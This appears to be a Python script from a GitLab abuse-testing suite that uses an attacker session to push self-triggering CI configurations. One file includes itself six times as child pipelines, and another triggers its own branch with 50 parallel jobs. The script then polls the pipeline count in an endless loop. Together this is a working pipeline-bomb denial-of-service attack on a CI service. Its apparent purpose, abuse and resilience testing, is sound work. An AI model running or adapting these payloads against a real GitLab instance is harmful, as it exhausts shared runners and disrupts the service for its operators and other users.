"""Pipelines that make pipelines."""

import asyncio
from collections import Counter

from scripts.abuse.place import Place, session

BOMB = "".join(
    f"bomb{number}:\n  trigger:\n    include: .gitlab-ci.yml\n    strategy: depend\n" for number in range(6)
)


async def pipeline_bomb(place: Place, answers: "Counter[str]") -> None:
    """One push of a file that triggers itself six times, and another of a trigger of its own project."""
    project = place.project(place.mine)
    async with session(place.as_attacker) as http:
        for branch, text in (
            ("bomb", BOMB),
            ("loop", f"again:\n  parallel: 50\n  trigger:\n    project: {place.mine}\n    branch: loop\n"),
        ):
            actions = [{"action": "create", "file_path": ".gitlab-ci.yml", "content": text}]
            body = {"branch": branch, "start_branch": "main", "commit_message": "Bomb", "actions": actions}
            async with http.post(f"{project}/repository/commits", json=body) as answer:
                answers[f"commit {answer.status}"] += 1
        most = 0
        while True:
            async with http.get(f"{project}/pipelines?per_page=1") as answer:
                most = max(most, int(answer.headers.get("X-Total", "0")))
            answers["pipelines"] = most
            await asyncio.sleep(0.5)
